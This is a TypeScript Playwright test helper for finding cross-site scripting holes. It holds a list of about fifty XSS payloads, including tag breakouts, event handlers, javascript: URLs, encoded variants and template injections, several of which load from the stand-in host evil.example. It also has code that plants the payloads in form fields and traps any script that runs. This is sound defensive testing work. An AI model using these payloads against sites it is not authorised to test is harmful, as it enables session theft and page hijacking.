import type { Page } from "@playwright/test";

/**
 * Texts that become a script or markup where somebody forgot to escape: `xss()` is the trap. A text that is no markup
 * by itself closes what it may stand in.
 */
export const NAUGHTY: readonly string[] = [
  "<script>xss()</script>",
  '"><script>xss()</script>',
  "'><script>xss()</script>",
  "</script><script>xss()</script>",
  "</title><script>xss()</script>",
  "</textarea><script>xss()</script>",
  "--><script>xss()</script><!--",
  "<!--><script>xss()</script>-->",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script src=data:,xss()></script>",
  "<script/x>xss()</script>",
  "<img src=x onerror=xss()>",
  '"><img src=x onerror="xss()">',
  "'><img src=x onerror='xss()'>",
  "<img/src/onerror=xss()>",
  "<IMG SRC=x OnErRoR=xss()>",
  "<svg onload=xss()>",
  "<svg/onload=xss()//",
  "<svg><script>xss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s>",
  "<body onload=xss()>",
  "<input autofocus onfocus=xss()>",
  "<details open ontoggle=xss()>x</details>",
  "<video><source onerror=xss()></video>",
  "<audio src=x onerror=xss()>",
  "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
  "<iframe src=javascript:parent.xss()></iframe>",
  "<object data=javascript:xss()></object>",
  "<embed src=javascript:xss()>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'</style>",
  "<meta http-equiv=refresh content='9;url=//evil.example'>",
  "<a href=javascript:xss()>x</a>",
  "<form action=javascript:xss()><button>x</button></form>",
  "<math><mi href=javascript:xss()>x</mi></math>",
  "javascript:xss()",
  "data:text/html,<script>xss()</script>",
  '" autofocus onfocus=xss() x="',
  "' onmouseover=xss() x='",
  "'-xss()-'",
  '"-xss()-"',
  "\\';xss();//",
  `$${"{xss()}"}`,
  "{{constructor.constructor('xss()')()}}",
  "*/xss()/*",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "&#60;img src=x onerror=xss()&#62;",
  "\\u003cscript\\u003exss()\\u003c/script\\u003e",
  "%3Cscript%3Exss()%3C/script%3E",
  "\u202e<img src=x onerror=xss()>",
  "\u2028<img src=x onerror=xss()>",
  "＜script＞xss()＜/script＞",
];

/** The texts joined into as few as fit a field of `most` characters, each behind a word that tells where it came from. */
export function packed(place: string, most: number): string[] {
  const texts: string[] = [];
  for (const text of NAUGHTY) {
    const last = texts.at(-1);
    const longer = `${last} ${text}`;
    if (last !== undefined && longer.length <= most) texts[texts.length - 1] = longer;
    else texts.push(`${place}-canary ${text}`);
  }
  return texts;
}

/** Texts of the list that stand in HTML as they are: whoever wrote it did not escape. */
export function unescapedIn(html: string): string[] {
  return NAUGHTY.filter((text) => /<[a-z/!]/i.test(text) && html.includes(text));
}

/** Addresses as strange as the form of one permits: with what ends an attribute, and as long as can be. */
export const STRANGE_EMAILS: readonly string[] = [
  "'onfocus+xss+'autofocus@script.example.test",
  `${"very-long.".repeat(20)}_'-xss-'x@${"sub-domain.".repeat(6)}example.test`,
];

/** Of some texts those that stand outside of scripts as they are, where an apostrophe could end an attribute. */
export function apostrophesIn(html: string, texts: readonly string[]): string[] {
  const markup = html.replace(/<script\b.*?<\/script>/gs, "");
  return texts.filter((text) => markup.includes(text));
}

/** What a browser noticed: scripts that ran, dialogs, reports of the policy, requests to elsewhere. */
export async function setTrap(page: Page): Promise<() => string[]> {
  const noticed: string[] = [];
  await page.exposeFunction("xss", () => noticed.push(`a script ran at ${page.url()}`));
  await page.exposeFunction("reportPolicy", (what: string) =>
    noticed.push(`policy at ${page.url()}: ${what}`),
  );
  await page.addInitScript(() => {
    const report = Reflect.get(window, "reportPolicy");
    document.addEventListener("securitypolicyviolation", (event) =>
      report(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`),
    );
  });
  page.on("dialog", (dialog) => {
    noticed.push(`a dialog at ${page.url()}`);
    dialog.dismiss().catch(() => undefined);
  });
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) noticed.push(`a request to ${request.url()}`);
  });
  return () => noticed;
}
